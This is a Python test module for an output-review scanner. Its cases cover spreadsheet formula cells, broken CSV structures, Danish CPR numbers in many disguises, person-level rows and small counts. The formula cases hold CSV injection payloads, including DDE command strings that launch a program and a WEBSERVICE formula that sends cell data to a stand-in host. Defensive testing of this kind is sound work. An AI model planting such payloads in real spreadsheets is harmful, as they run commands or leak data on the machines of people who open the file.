"""Tables: formulas, shapes that hide cells, CPR numbers in disguise, rows of persons, small counts."""

from __future__ import annotations

import json
from collections.abc import Mapping

from tests.output_review.hostile.build import book, code, display, error, stream, words
from tests.output_review.hostile.case import CPR, TOKEN, Case, Clean, Expect, Found, Gone, Refused, Row, Shown, family

SHAPE_SECRETS = {
    "lines that end as on old Macs": b"\r",
    "a cell with a carriage return": b"x\r\ny",
    "a byte order mark before a table": b"\xef\xbb\xbf",
}


def cell(content: str) -> str:
    return f'"{content}"' if any(ch in content for ch in ',\n"') else content


def in_a_cell(contents: Mapping[str, str], expect: Expect) -> dict[str, Row]:
    """A table with this in its one cell."""
    return {name: ("a.csv", f"term,p\n{cell(content)},12\n", expect) for name, content in contents.items()}


FORMULAS: dict[str, Row] = {
    **in_a_cell(
        {
            "a link": "=HYPERLINK(A1)",
            "a sum": "=1+1",
            "a command": "=cmd|' /C calc'!A0",
            "a web service": '=WEBSERVICE(""http://x/""&A2)',
            "with a plus": "+A1+A2",
            "with a minus": "-A1",
            "minus and a command": "-2+3+cmd|' /C calc'!A0",
            "with an at": "@SUM(A1)",
            "behind a space": "  =1+1",
            "behind a tab": "\t=1+1",
            "behind a no-break space": "\u00a0=1+1",
            "behind a line": "\n=1+1",
            "a number and a formula": "-1+2",
            "an array": "=({1,2})",
            "a number and a call": "+1 (A1)",
            "two signs": "--1+A1",
            "wide equals": "\uff1d1+1",
            "wide plus": "\uff0bA1",
            "wide minus": "\uff0dA1",
            "wide at": "\uff20SUM(A1)",
            "behind the delimiter of another country": "x;=1+1",
            "behind the delimiter of another country and quotes": 'x;""=1+1""',
            "behind a tabulator": "x\t=1+1",
        },
        Found("formula"),
    ),
    "in the heading": ("a.csv", "=1+1,b\nx,12\n", Found("formula")),
    "between semicolons": ("a.csv", "a;b\n=1+1;x\n", Found("formula")),
    "between tabs": ("a.csv", "a\tb\n=1+1\tx\n", Found("formula")),
    "beyond the heading": ("a.csv", "a,b\nx,y,=1+1\n", Found("formula")),
    **in_a_cell(
        {
            "a negative number": "-1.5",
            "a positive number": "+2",
            "a small p": "-1.2e-05",
            "a confidence interval": "-0.12 (-0.3; 0.1)",
            "a range": "0.12 [-0.3; -0.1]",
            "no value": "-",
            "a percentage": "-3%",
            "an equation inside words": "p = 0.05",
            "an address": "a@b",
        },
        Clean(),
    ),
}

STRUCTURE: dict[str, Row] = {
    "an ordinary table": ("a.csv", "region,persons\nNord,120\nSyd,90\n", Clean()),
    "an ordinary table with quotes": ("a.csv", 'region,note\n"Nord, vest","sagde ""ja"""\n', Clean()),
    "an ordinary table with semicolons": ("a.csv", "region;andel\nNord;0,12\n", Clean()),
    "a cell beyond the heading": ("a.csv", f"a,b\nx,y\nx,y,{TOKEN}\n", Found("ragged")),
    "a row that is shorter": ("a.csv", f"a,b,c\n{TOKEN}\nx,y,z\n", Found("ragged")),
    "a title above the heading": ("a.csv", f"{TOKEN}\na,b\nx,y\n", Found("ragged")),
    "a row with another delimiter": ("a.csv", f"a,b\nx;y;{TOKEN}\n", Found("ragged")),
    "a heading of many lines": ("a.csv", 'a,"b' + "\n" * 50 + f'{TOKEN}"\nx,y\n', Found("invisible")),
    "a quote that never ends": ("a.csv", f'a,b\n"x,{TOKEN}\n', Refused("no_table")),
    "words behind a quote": ("a.csv", f'a,b\n"x"{TOKEN},y\n', Refused("no_table")),
    "a cell of a book's length": ("a.csv", f"a,b\n{TOKEN} {'word ' * 300},y\n", Found("long")),
    "a heading of a book's length": ("a.csv", f"a,{TOKEN} {'word ' * 300}\nx,y\n", Found("long")),
    "a cell beyond what is read": ("a.csv", "a,b\n" + "x" * 140_000 + ",y\n", Refused("no_table")),
    "a long run in a heading": ("a.csv", f"a,{'QUJD' * 60}\nx,y\n", Found("encoded")),
    "a thousand rows": ("a.csv", "a,b\n" + "x,y\n" * 1_001, Found("long")),
    "too many rows": ("a.csv", "a\n" + "x\n" * 5_001, Refused("too_many_cells")),
    "too many columns": ("a.csv", "a," * 200_001, Refused("too_many_cells")),
    "rows that would be too many when even": ("a.csv", "a," * 100_000 + "\n" + "x\n" * 3, Refused("too_many_cells")),
    "nothing": ("a.csv", b"", Refused("no_table")),
    "only line ends": ("a.csv", "\n\r\n\n", Refused("no_table")),
    "only delimiters": ("a.csv", ",,,\n,,,\n", Refused("no_table")),
    "only spaces": ("a.csv", "   \n \n", Refused("no_table")),
    "a heading of spaces": ("a.csv", f" , \n{TOKEN},x\n", Refused("no_table")),
    "lines that end as on old Macs": ("a.csv", "a,b\rx,y\r", Gone("carriage returns")),
    "a cell with a carriage return": ("a.csv", 'a,b\n"x\r\ny",z\n', Gone("carriage returns")),
    "a byte order mark before a table": ("a.csv", b"\xef\xbb\xbfa,b\nx,y\n", Gone("byte order mark")),
    "a control in a cell": ("a.csv", "a,b\nx\x1c\x1dy,z\n", Found("invisible")),
    "a tabulator in a cell": ("a.csv", f'a,b\n"x\t{TOKEN}",z\n', Found("invisible")),
    "a second table below": ("a.csv", f"a,b\nx,y\n\n{TOKEN},d\n", Shown()),
    "a page in a cell": ("a.csv", f"a,b\n<b>,{TOKEN}\n", Shown()),
}  # fmt: skip

CPR_DISGUISES = {
    "with a dash": CPR,
    "without a dash": CPR.replace("-", ""),
    "with a space": "010170 5234",
    "with two spaces": "010170  5234",
    "with a dash among spaces": "010170 - 5234",
    "with two dashes": "010170--5234",
    "with a dash of print": "010170\u20135234",
    "with a long dash": "010170\u20145234",
    "with a bar": "010170\u20155234",
    "with a minus": "010170\u22125234",
    "with a dash that does not break": "010170\u20115234",
    "with an Armenian dash": "010170\u058a5234",
    "with a wide dash": "010170\uff0d5234",
    "with a small dash": "010170\ufe635234",
    "with a slash": "010170/5234",
    "with an underscore": "010170_5234",
    "with a colon": "010170:5234",
    "with a plus": "010170+5234",
    "with dashes in the date": "01-01-70-5234",
    "with points in the date": "01.01.70-5234",
    "with slashes in the date": "01/01/70-5234",
    "with spaces in the date": "01 01 70-5234",
    "with the whole year": "01011870-5234",
    "with the whole year and points": "01.01.1870-5234",
    "without its zero": "101705234",
    "as a decimal number": "101705234.0",
    "as numpy prints it": "1.01705234e+08",
    "as a spreadsheet prints it": "1.01705234E+08",
    "in wide digits": "\uff10\uff11\uff10\uff11\uff17\uff10-5234",
    "in Arabic digits": "".join(chr(0x660 + int(ch)) if ch.isdigit() else ch for ch in CPR),
    "in Devanagari digits": "".join(chr(0x966 + int(ch)) if ch.isdigit() else ch for ch in CPR),
    "in bold digits": "".join(chr(0x1D7CE + int(ch)) if ch.isdigit() else ch for ch in CPR),
    "in raised digits": "".join("⁰¹²³⁴⁵⁶⁷⁸⁹"[int(ch)] if ch.isdigit() else ch for ch in CPR),
    "in circled digits": "".join("⓪①②③④⑤⑥⑦⑧⑨"[int(ch)] if ch.isdigit() else ch for ch in CPR),
    "in words": f"hun ({CPR}), 54",
    "in a name of a variable": f"x_{CPR}_y",
    "behind a letter": f"p{CPR}",
    "with an entity": "010170&#45;5234",
    "with an entity's name": "010170&hyphen;5234",
    "with entities as digits": "&#48;10170-523&#x34;",
    "with a bold dash": "010170**-**5234",
    "with a dash of code": "010170`-`5234",
    "with a backslash": "010170\\-5234",
    "in a list of many": f"[1, 2, {CPR.replace('-', '')}, 4]",
    "on a leap day": "290276-6234",
    "twice": f"{CPR} {CPR}",
}
HARMLESS_NUMBERS = {
    "a telephone": "+4712345678",
    "a date and a time": "2026-01-01 1234",
    "a date that is none": "3102705234",
    "no leap day": "2902775234",
    "eleven digits": "01017052345",
    "a decimal": "12345670101.5",
    "a fraction": "0.0101705234",
    "a small number in E": "1.01705234e-08",
    "a book": "9780101705234",
    "years": "1998 2003",
}

KINDS = ("csv", "txt", "json", "md", "stream", "source", "display", "error", "words")


def in_kind(kind: str, text: str) -> tuple[str, bytes | str]:
    """A text in a place of a kind of file."""
    escaped = text.replace('"', '""')
    files: dict[str, tuple[str, bytes | str]] = {
        "csv": ("a.csv", f'note,n\n"{escaped}",12\n'),
        "txt": ("a.txt", f"seen: {text}\n"),
        "json": ("a.json", json.dumps({"note": text}, indent=1, ensure_ascii=False) + "\n"),
        "md": ("a.md", f"* {text}\n"),
        "stream": ("a.ipynb", book(code(stream(f"{text}\n")))),
        "source": ("a.ipynb", book(code(source=f"x = '{text}'"))),
        "display": ("a.ipynb", book(code(display({"text/plain": text})))),
        "error": ("a.ipynb", book(code(error(value=text)))),
        "words": ("a.ipynb", book(words(text))),
    }
    return files[kind]


CPR_NUMBERS: dict[str, Row] = {
    **{
        f"{name}, in {kind}": (*in_kind(kind, text), Found("cpr"))
        for n, (name, text) in enumerate(CPR_DISGUISES.items())
        for kind in (KINDS[n % len(KINDS)], KINDS[(n + 4) % len(KINDS)])
    },
    **{
        f"{name}, in {kind}": (*in_kind(kind, text), Clean())
        for n, (name, text) in enumerate(HARMLESS_NUMBERS.items())
        for kind in ("txt", KINDS[1 + n % 8])
    },
    "in a heading": ("a.csv", f"region,{CPR}\nNord,12\n", Found("cpr")),
    "as the heading": ("a.csv", f"{CPR.replace('-', '')}\n12\n", Found("cpr")),
    "beyond the heading, in a table": ("a.csv", f"a,b\nx,y,{CPR}\n", Found("cpr")),
    "as a name of JSON": ("a.json", json.dumps({CPR: 1}), Found("cpr")),
    "as a number of JSON": ("a.json", b"[2902766234]", Found("cpr")),
    "with escapes of JSON": ("a.json", b'["\\u0030\\u00310170-5234"]', Found("cpr")),
    "in a comment of Markdown": ("a.md", f"<!-- {CPR} -->\n", Found("cpr")),
    "in an address": ("a.md", f"[x](http://x/?id={CPR})\n", Found("cpr")),
    "in a comment of a program": ("a.ipynb", book(code(source=f"1 + 1  # {CPR}")), Found("cpr")),
    "in a raw cell": ("a.ipynb", book(words(CPR, "raw")), Found("cpr")),
    "in the name of an error": ("a.ipynb", book(code(error(CPR))), Found("cpr")),
    "in what was printed over": ("a.ipynb", book(code(stream(f"\x1b[31m{CPR[:3]}\x1b[0m{CPR[3:]}"))), Found("cpr")),
    "in a list of lines": ("a.ipynb", book(code(stream([CPR[:3], CPR[3:]]))), Found("cpr")),
    "broken by a zero-width space": ("a.txt", "010170\u200b5234\n", Found("invisible")),
    "broken by a soft hyphen": ("a.csv", "a,b\n010170\u00ad5234,1\n", Found("invisible")),
    "in two cells": ("a.csv", "date,serial\n010170,5234\n110270,6234\n050370,5111\n", Found("cpr")),
}

PERSONS = "id,sex,age\n17,m,34\n18,f,51\n19,m,28\n"
SEX_AND_AGE = [("mf"[n * n % 7 % 2], 30 + n * 17 % 41) for n in range(30)]
SELECTED = "".join(f"{n * 7 % 1009},{sex},{age}\n" for n, (sex, age) in enumerate(SEX_AND_AGE))
BY_COLUMN = {name: {n: row[column] for n, row in enumerate(SEX_AND_AGE)} for column, name in enumerate(("sex", "age"))}
NUMBERED = "".join(f"{n},{sex},{age}\n" for n, (sex, age) in enumerate(SEX_AND_AGE))
COUNTED_FROM_ONE = "".join(f'"{n}","{sex}",{age}\n' for n, (sex, age) in enumerate(SEX_AND_AGE, start=1))
VISITS = "".join(f"{n},{visit},7.5\n" for n in range(12) for visit in (1, 2))


def with_key(name: str) -> str:
    return PERSONS.replace("id,", f"{name},", 1)


ROWS: dict[str, Row] = {
    "regions": ("a.csv", "region,mean\nNord,34.5\nSyd,51.5\nØst,28.5\n", Clean()),
    "years": ("a.csv", "year,mean\n2020,34.5\n2021,51.5\n2022,28.5\n", Clean()),
    "years without a heading": (
        "a.csv", ",mean\n" + "".join(f"{n},34.5\n" for n in range(1990, 2020)), Clean()),
    "years and regions": (
        "a.csv", "region_id,year,mean\n" + "".join(f"{r},{y},9.5\n" for r in (81, 82) for y in range(2000, 2010)),
        Clean()),
    "a few regions in JSON": ("a.json", json.dumps([{"region": r, "mean": 9.5} for r in "NSØ"], indent=1,
                                                  ensure_ascii=False) + "\n", Clean()),
    "a curve in JSON": ("a.json", json.dumps({"x": [n / 2 for n in range(50)]}, indent=1) + "\n", Clean()),
    **{
        f"with {key}": ("a.csv", with_key(key), Found("rows"))
        for key in (
            "id", "ID", "cpr", "CPR-nr", "pnr", "patient_id", "PatientID", "person id", "personnummer", "lbnr", "mrn",
            "subject_id", "subjid", "SubjectId", "personnr", "person_nr", "journalnr", "uuid", "løbenummer",
        )
    },
    "as pandas writes it": ("a.csv", ",sex,age\n" + NUMBERED, Found("rows")),
    "as pandas reads and writes it": ("a.csv", "Unnamed: 0,sex,age\n" + NUMBERED, Found("rows")),
    "as R writes it": ("a.csv", '"","sex","age"\n' + COUNTED_FROM_ONE, Found("rows")),
    "a selection as pandas writes it": ("a.csv", ",sex,age\n" + SELECTED, Found("rows")),
    "with one row twice": ("a.csv", PERSONS + "19,m,28\n", Found("rows")),
    "with several visits of each": ("a.csv", "patient_id,visit,hba1c\n" + VISITS, Found("rows")),
    "with the key last": ("a.csv", "sex,age,id\nm,34,17\nf,51,18\nm,28,19\n", Found("rows")),
    "between semicolons": ("a.csv", PERSONS.replace(",", ";"), Found("rows")),
    "in JSON": ("a.json", json.dumps([{"sex": sex, "age": age} for sex, age in SEX_AND_AGE]), Found("rows")),
    "in JSON, few with a key": ("a.json", json.dumps([{"patient_id": n, "age": 40} for n in range(4)]), Found("rows")),
    "in JSON as pandas writes it": ("a.json", json.dumps(BY_COLUMN), Found("rows")),
    "in JSON as lists": ("a.json", json.dumps(SEX_AND_AGE), Found("rows")),
    "in JSON as columns": (
        "a.json", json.dumps({"id": list(range(9)), "age": list(range(30, 39))}), Found("rows")),
    "in JSON, split": (
        "a.json", json.dumps({"columns": ["id", "age"], "index": [0, 1, 2], "data": [[7, 40], [8, 50], [9, 60]]}),
        Found("rows")),
    "in JSON, deep": ("a.json", json.dumps({"a": [{"b": SEX_AND_AGE}]}), Found("rows")),
    "printed by pandas": (
        "a.ipynb", book(code(stream("   id sex  age\n0  17   m   34\n1  18   f   51\n2  19   m   28\n"))),
        Found("rows")),
    "printed in part": ("a.ipynb", book(code(display({"text/plain": "...\n[900 rows x 5 columns]"}))), Found("rows")),
    "printed as CSV": ("a.txt", PERSONS, Found("rows")),
    "printed with a heading": (
        "a.txt", "patient_id  sex  age\n17  m  34\n18  f  51\n19  m  28\n", Found("rows")),
    "in a table of Markdown": (
        "a.md", "| id | sex | age |\n|---|---|---|\n| 17 | m | 34 |\n| 18 | f | 51 |\n| 19 | m | 28 |\n",
        Found("rows")),
    "in a cell of words": ("a.ipynb", book(words(PERSONS)), Found("rows")),
}  # fmt: skip

SMALL: dict[str, Row] = {
    "large counts": ("a.csv", "region,n\nNord,30\nSyd,120\n", Clean()),
    "a mean": ("a.csv", "region,mean\nNord,3\nSyd,2\n", Clean()),
    "a share of persons": ("a.csv", "region,percent of persons\nNord,3\nSyd,97\n", Clean()),
    "none": ("a.csv", "region,n\nNord,0\nSyd,20\n", Clean()),
    "masked": ("a.csv", "region,n\nNord,<5\nSyd,20\n", Clean()),
    "means by category": ("a.csv", "statistic,Nord,Syd\nn,300,200\nmean grade,3,2\nmedian,2,3\n", Clean()),
    "with a percentage": ("a.csv", "region,n (%)\nNord,30 (2.1%)\nSyd,120 (3.4%)\n", Clean()),
    "large counts in JSON": (
        "a.json", json.dumps({"columns": ["region", "n"], "data": [["Nord", 30]]}, indent=1) + "\n", Clean()),
    **{
        f"in {heading}": ("a.csv", f"region,{heading}\nNord,3\nSyd,120\n", Found("small_count"))
        for heading in (
            "n", "N", "antal", "Antal personer", "count", "nCases", "n_events", "patienter", "freq", "Number of women",
            "deaths by age group", "total", "dødsfald", "antal pr. år",
        )
    },
    **{
        f"as {name}": ("a.csv", f'region,n\nNord,"{number}"\nSyd,120\n', Found("small_count"))
        for name, number in {
            "a decimal": "3.0", "a Danish decimal": "3,0", "two zeros": "003", "wide": "\uff13", "Arabic": "\u0663",
            "a share": "3 (2.1%)", "a Danish share": "3 (2,1 %)", "a share in brackets": "3 [2.1%]",
            "a footnote": "3*", "a point": "3.", "raised": "³", "a count of persons": "3 personer", "in E": "3e0",
            "with a sign": "+3", "a fraction": "3/120", "equal": "n=3",
        }.items()
    },
    "among many that are masked": ("a.csv", "region,n\nA,<5\nB,<5\nC,<5\nD,3\n", Found("small_count")),
    "among words": ("a.csv", "region,n\nA,few\nB,some\nC,many\nD,3\n", Found("small_count")),
    "in a row": ("a.csv", "statistic,Nord,Syd\nn,3,120\nmean,34.5,51.5\n", Found("small_count")),
    "in a row as pandas describes": ("a.csv", ",age,bmi\ncount,3.0,3.0\nmean,34.5,27.5\n", Found("small_count")),
    "in a Danish row": ("a.csv", "mål;Nord;Syd\nAntal personer;3;120\nGennemsnit;34,5;51,5\n", Found("small_count")),
    "below a second heading": (
        "a.csv", "region,mean\nNord,34.5\n\nregion,antal\nNord,3\n", Found("small_count")),
    "beside a total": ("a.csv", "region,n\nNord,2\nSyd,118\nI alt,120\n", Found("small_count")),
    "in JSON, of objects": ("a.json", b'[{"region": "Nord", "n": 3}]', Found("small_count")),
    "in JSON, of text": ("a.json", b'{"antal": "3"}', Found("small_count")),
    "in JSON, split in columns": (
        "a.json", b'{"columns": ["region", "antal"], "index": [0], "data": [["Nord", 3]]}', Found("small_count")),
    "in JSON, of lists": ("a.json", b'[["region", "antal"], ["Nord", 3]]', Found("small_count")),
    "in JSON, by region and sex": ("a.json", b'{"antal": {"Nord": {"m": 3, "f": 120}}}', Found("small_count")),
    "printed": ("a.txt", "region    persons\nNord    3\nSyd    120\n", Found("small_count")),
    "printed as CSV": ("a.txt", "region,n,mean\nNord,3,9.5\nSyd,120,9.5\n", Found("small_count")),
    "printed as a series": (
        "a.ipynb", book(code(display({"text/plain": "region\nNord    3\nSyd     120\nName: count, dtype: int64"}))),
        Found("small_count")),
    "in a table of Markdown": ("a.md", "| region | n |\n|---|---|\n| Nord | 3 |\n", Found("small_count")),
    "described in print": (
        "a.ipynb", book(code(stream("        age    bmi\ncount   3.0    3.0\nmean   34.5   27.5\n"))),
        Found("small_count")),
}  # fmt: skip


def _with_secret(case: Case) -> Case:
    return Case(case.family, case.id, case.name, case.raw, case.expect, SHAPE_SECRETS.get(case.id, case.secret))


CASES = [
    *family("CSV formulas", FORMULAS),
    *map(_with_secret, family("CSV structure", STRUCTURE)),
    *family("CPR numbers in disguise", CPR_NUMBERS),
    *family("rows of persons", ROWS),
    *family("small counts", SMALL),
]
